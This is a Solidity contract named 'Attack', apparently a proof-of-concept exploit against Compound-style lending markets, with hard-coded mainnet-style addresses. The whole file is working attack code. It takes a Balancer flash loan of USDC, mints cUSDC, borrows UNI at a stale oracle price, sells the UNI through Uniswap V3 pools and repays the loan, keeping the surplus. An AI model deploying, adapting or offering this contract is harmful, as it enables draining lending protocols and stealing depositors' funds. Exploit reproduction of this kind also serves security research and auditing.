// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {BalancerVault} from "../BalancerVault.sol";
import {Erc20} from "../Erc20.sol";
import {UniswapV3Pool} from "../UniswapV3Pool.sol";

interface Comptroller {
    function enterMarkets(address[] calldata markets) external;
    function getAccountLiquidity(address account) external view returns (uint256, uint256 liquidity, uint256);
}

interface Market {
    function mint(uint256 amount) external returns (uint256);
    function borrow(uint256 amount) external returns (uint256);
}

interface PriceFeed {
    function getUnderlyingPrice(address market) external view returns (uint256);
}

/// Borrows UNI at a price that lags the market by more than the collateral factor leaves, and sells it for good.
contract Attack {
    Comptroller constant COMPTROLLER = Comptroller(0x3d9819210A31b4961b30EF54bE2aeD79B9c9Cd3B);
    PriceFeed constant FEED = PriceFeed(0x50ce56A3239671Ab62f185704Caedf626352741e);
    Market constant C_USDC = Market(0x39AA39c021dfbaE8faC545936693aC917d5E7563);
    Market constant C_UNI = Market(0x35A18000230DA775CAc24873d00Ff85BccdeD550);
    UniswapV3Pool constant UNI_WETH = UniswapV3Pool(0x1d42064Fc4Beb5F8aAF85F4617AE8b3b5B8Bd801);
    UniswapV3Pool constant USDC_WETH = UniswapV3Pool(0x88e6A0c2dDD26FEEb64F039a2c41296FcB3f5640);
    BalancerVault constant BALANCER = BalancerVault(0xBA12222222228d8Ba445958a75a0704d566BF2C8);
    Erc20 constant USDC = Erc20(0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48);
    Erc20 constant UNI = Erc20(0x1f9840a85d5aF5bf1D1762F925BDADdC4201F984);
    Erc20 constant WETH = Erc20(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
    uint256 constant LOAN = 193_020_254_960;
    uint160 constant MIN_SQRT_PRICE = 42_095_128_740;
    uint160 constant MAX_SQRT_PRICE = 1_461_446_703_485_210_103_287_273_052_203_988_822_378_723_970_341;

    function attack() external {
        address[] memory tokens = new address[](1);
        uint256[] memory amounts = new uint256[](1);
        (tokens[0], amounts[0]) = (address(USDC), LOAN);
        BALANCER.flashLoan(address(this), tokens, amounts, "");
    }

    function receiveFlashLoan(address[] calldata, uint256[] calldata, uint256[] calldata, bytes calldata) external {
        USDC.approve(address(C_USDC), LOAN);
        require(C_USDC.mint(LOAN) == 0);
        address[] memory markets = new address[](1);
        markets[0] = address(C_USDC);
        COMPTROLLER.enterMarkets(markets);

        (, uint256 liquidity,) = COMPTROLLER.getAccountLiquidity(address(this));
        require(C_UNI.borrow(liquidity / FEED.getUnderlyingPrice(address(C_UNI)) * 1e18) == 0);

        UNI_WETH.swap(address(this), true, int256(UNI.balanceOf(address(this))), MIN_SQRT_PRICE, abi.encode(UNI));
        USDC_WETH.swap(address(this), false, int256(WETH.balanceOf(address(this))), MAX_SQRT_PRICE, abi.encode(WETH));
        USDC.transfer(address(BALANCER), LOAN);
    }

    function uniswapV3SwapCallback(int256 owed0, int256 owed1, bytes calldata token) external {
        abi.decode(token, (Erc20)).transfer(msg.sender, uint256(owed0 > 0 ? owed0 : owed1));
    }
}
